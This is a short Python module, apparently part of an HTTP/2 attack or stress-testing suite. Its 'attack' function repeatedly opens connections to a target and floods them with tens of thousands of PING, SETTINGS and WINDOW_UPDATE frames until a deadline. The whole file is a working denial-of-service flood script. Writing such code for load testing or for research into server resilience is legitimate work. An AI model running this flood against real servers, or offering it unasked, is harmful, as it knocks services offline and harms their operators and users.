"""Floods of small frames whose answers, if any, nobody reads: pings, settings, window updates."""

import struct

from cases import SOURCE, going
from http2 import PING, PREFACE, SETTINGS, WINDOW, connect, frame

SLICE = False


def attack(target, until):
    floods = [frame(PING, 0, 0, b"01234567"), frame(SETTINGS, 0, 0), frame(WINDOW, 0, 0, struct.pack(">I", 1))]
    while going(until):
        for each in floods:
            try:
                one = connect(target, SOURCE, timeout=0.5)
                one.sendall(PREFACE + frame(SETTINGS, 0, 0))
                for _ in range(200):
                    one.sendall(each * 200)
                    if not going(until):
                        break
                one.close()
            except OSError:
                pass
